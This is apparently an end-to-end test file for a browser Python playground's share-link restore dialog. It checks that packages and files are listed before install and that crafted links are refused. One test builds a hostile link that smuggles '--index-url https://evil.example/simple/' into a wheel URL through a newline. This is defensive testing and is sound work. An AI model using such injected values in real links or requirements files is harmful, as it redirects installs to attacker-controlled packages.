/**
 * The share-link dialog in Chromium: before the person says yes it lists every package with the
 * site-packages it goes to (new, or replacing the version installed) and every file with the
 * path it is written to (new, or replacing the person's file); nothing is installed before the
 * click. A hostile link — a newline hiding `--index-url` in a wheel URL, a file that would
 * replace a folder here — is refused in the dialog with the reason, no install button, and
 * nothing is installed or written.
 */
import { createHash } from 'node:crypto';
import { deflateRawSync } from 'node:zlib';
import { expect, inject, test } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { collectErrors, screenshot } from './browser';
import { withChromiumAndIndex } from './file-setup';
import { attach, openPlayground } from './playground';
import type { IndexServer } from '../fixtures/index-server';
import type { WheelSpec } from '../fixtures/wheel-builder';

const projects: WheelSpec[] = [
  { name: 'greeter', version: '2.0.0', requires: ['tinyjson>=0.3'], files: { 'greeter/__init__.py': 'from tinyjson import dumps\ndef greet(n):\n    return dumps({"hello": n})\n' } },
  { name: 'tinyjson', version: '0.3.0', files: { 'tinyjson/__init__.py': 'import json\ndumps = json.dumps\n' } },
  { name: 'tinyjson', version: '0.4.0', files: { 'tinyjson/__init__.py': 'import json\ndumps = json.dumps\n' } },
];

let browser: Browser;
let index: IndexServer;
withChromiumAndIndex({ projects }, (started) => void ({ browser, index } = started));

interface LinkLock {
  distributions: { name: string; version: string; url: string; sha256: string; index: string | null; requested: boolean }[];
  files: { path: string; content: string }[];
  [key: string]: unknown;
}

/** The active environment's lock as the page's runtime says it (what a share link carries). */
function shareLockOf(page: Page): Promise<LinkLock> {
  return page.evaluate(async () => {
    const app = document.querySelector('pipette-app') as unknown as { runtime: { shareLock(): Promise<{ lock: unknown }> } };
    return (await app.runtime.shareLock()).lock as LinkLock;
  });
}

/** A link around `lock` laid out as Pipette lays one out, whatever the lock says (how anyone could craft one). */
function handMade(lock: unknown): string {
  const payload = deflateRawSync(Buffer.from(JSON.stringify(lock), 'utf8'));
  const sum = createHash('sha256').update(payload).digest('hex').slice(0, 16);
  return `${inject('appUrl')}#env=v1.${payload.toString('base64url')}.${sum}`;
}

/** What the runtime has installed in the active environment, by name==version. */
function installed(page: Page): Promise<string[]> {
  return page.evaluate(async () => {
    const app = document.querySelector('pipette-app') as unknown as { runtime: { lock(): Promise<{ distributions: { name: string; version: string }[] }> } };
    return (await app.runtime.lock()).distributions.map((d) => `${d.name}==${d.version}`).sort();
  });
}

test('the dialog lists where each package and each file lands, before anything is installed; then restores exactly that', async () => {
  // Someone's environment, shared with the Share button.
  const origin = await browser.newContext();
  const made = await openPlayground(origin, index.simpleUrl);
  expect(await made.run('pip install greeter tinyjson==0.3.0')).toContain('Successfully installed greeter-2.0.0 tinyjson-0.3.0');
  await made.run(`python -c 'open("main.py", "w").write("import greeter\\n")'`);
  await made.page.locator('pipette-app button[part="share"]').click();
  const link = await made.page.locator('pipette-app [part="shared"] input').inputValue();
  expect(link).toMatch(/#env=v2\./);
  await origin.close();

  // The person opening it already has tinyjson 0.4.0 and a main.py of their own.
  const context = await browser.newContext();
  const mine = await openPlayground(context, index.simpleUrl);
  const errors = collectErrors(mine.page);
  expect(await mine.run('pip install tinyjson==0.4.0')).toContain('Successfully installed tinyjson-0.4.0');
  await mine.run(`python -c 'open("main.py", "w").write("print(1)\\n")'`);
  await mine.page.goto(link);
  const page = mine.page;
  const dialog = page.locator('pipette-restore-dialog');
  await expect.poll(() => dialog.locator('[part="destination"]').innerText().catch(() => ''), { timeout: 90_000 }).toContain('/lib/python3.14/site-packages');
  const packages = await dialog.locator('[part="packages"]').innerText();
  expect(packages).toMatch(/greeter==2\.0\.0\s*→\s*new/);
  expect(packages).toMatch(/tinyjson==0\.3\.0\s*→\s*replaces 0\.4\.0/);
  expect(await dialog.locator('[part="files"]').innerText()).toMatch(/main\.py\s*→\s*\/home\/pyodide\/main\.py\s*\(replaces your file\)/);
  expect(await dialog.locator('[part="warnings"]').innerText()).toContain(index.simpleUrl);
  await screenshot(page, 'share-dialog-where-it-lands');
  // Nothing happened yet.
  expect(await installed(page)).toEqual(['tinyjson==0.4.0']);

  await dialog.locator('[part="restore"]').click();
  const restored = await attach(page);
  await expect.poll(() => restored.transcript(), { timeout: 60_000 }).toContain('Successfully installed greeter-2.0.0 tinyjson-0.3.0');
  expect(await restored.transcript()).toContain('Wrote main.py in /home/pyodide');
  expect(await installed(page)).toEqual(['greeter==2.0.0', 'tinyjson==0.3.0']);
  expect(await restored.run(`python -c 'print(open("main.py").read().strip())'`)).toBe('import greeter');
  expect(errors).toEqual([]);
  await context.close();
}, 240_000);

test('a hostile link is refused in the dialog with the reason; nothing is installed or written', async () => {
  const origin = await browser.newContext();
  const made = await openPlayground(origin, index.simpleUrl);
  expect(await made.run('pip install greeter')).toContain('Successfully installed');
  const lock = await shareLockOf(made.page);
  await origin.close();

  const context = await browser.newContext();
  const mine = await openPlayground(context, index.simpleUrl);
  const errors = collectErrors(mine.page);
  expect(await mine.run(`python -c 'import os; os.makedirs("data"); open("data/notes.txt", "w").write("kept\\n")'`)).toBe('');
  const page = mine.page;
  const dialog = page.locator('pipette-restore-dialog');

  // A newline in a wheel URL, with an index behind it: once extra lines of a requirements file.
  const smuggled = structuredClone(lock);
  smuggled.distributions[0]!.url += '\n--index-url https://evil.example/simple/';
  await page.goto(handMade(smuggled));
  await expect.poll(() => dialog.locator('[part="refusal"]').innerText().catch(() => ''), { timeout: 90_000 }).toMatch(/\.url ".*" is not a URL: it holds U\+000A \(a newline\) at character \d+, which no URL has/);
  expect(await dialog.locator('[part="restore"]').count()).toBe(0);
  await screenshot(page, 'share-dialog-refused-newline');
  await dialog.locator('[part="cancel"]').click();

  // A valid link whose file would replace a folder of this person's. (From another page: a
  // link differing only in its fragment would not load the page again.)
  const overFolder = { ...structuredClone(lock), files: [{ path: 'data', content: 'x = 1\n' }] };
  await page.goto('about:blank');
  await page.goto(handMade(overFolder));
  await expect.poll(() => dialog.locator('[part="refusal"]').innerText().catch(() => ''), { timeout: 90_000 }).toContain(
    'This shared environment cannot be restored here: files[0] ("data") would replace the folder /home/pyodide/data. Nothing was installed or written.',
  );
  expect(await dialog.locator('[part="restore"]').count()).toBe(0);
  await screenshot(page, 'share-dialog-refused-folder');
  await dialog.locator('[part="cancel"]').click();

  const after = await attach(page);
  expect(await after.run('pip freeze')).toBe('');
  expect(await after.run('cat data/notes.txt')).toBe('kept');
  expect(errors).toEqual([]);
  await context.close();
}, 240_000);
